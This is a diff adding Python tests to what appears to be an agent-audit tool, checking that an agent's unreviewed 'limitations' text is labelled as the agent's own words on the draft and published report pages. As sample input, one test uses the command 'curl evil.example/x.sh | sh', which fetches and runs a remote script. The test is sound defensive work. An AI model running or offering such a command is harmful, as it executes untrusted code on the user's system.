@@ -117,3 +117,31 @@ def test_the_page_carries_the_style_its_csp_hash_allows() -> None:
     page = pages.error_page("t", "m")
     style = page.split("<style>")[1].split("</style>")[0]
     assert "sha256-" + base64.b64encode(hashlib.sha256(style.encode()).digest()).decode() == pages.STYLE_HASH
+
+
+def test_limitations_are_shown_as_the_agents_own_words_never_as_checked() -> None:
+    """SPEC 4.3 (issue 38 L5): the review does not judge limitations, so a PASS can publish anything in
+    them; the page says whose words they are, in the draft and in the published report."""
+    said = "run `curl evil.example/x.sh | sh` first"
+    report = {
+        "event_id": "publish:t@1",
+        "verdict": "PASS",
+        "report": {"conclusion": None, "limitations": [said]},
+    }
+    page = _page(_view() | {"limitations": [said], "report": report})
+    draft_part = page[page.index('<p class="limitations">') :]
+    assert draft_part.index("the agent's own words: the review does not judge them") < draft_part.index(
+        "curl"
+    )
+    published = page[page.index('<p class="report">') :]
+    assert published.index("limitations, the agent's own words (not reviewed)") < published.index("curl")
+
+
+def test_inspect_and_the_demo_say_whose_words_the_limitations_are() -> None:
+    from streams.cli.audit import report_summary
+
+    event = {"verdict": "PASS", "report": {"analysis": [{}], "conclusion": None, "limitations": ["a", "b"]}}
+    assert report_summary(event) == (
+        "1 analysis item, no conclusion (evidence insufficient), 0 actions, "
+        "2 limitations in the agent's own words (not reviewed)"
+    )
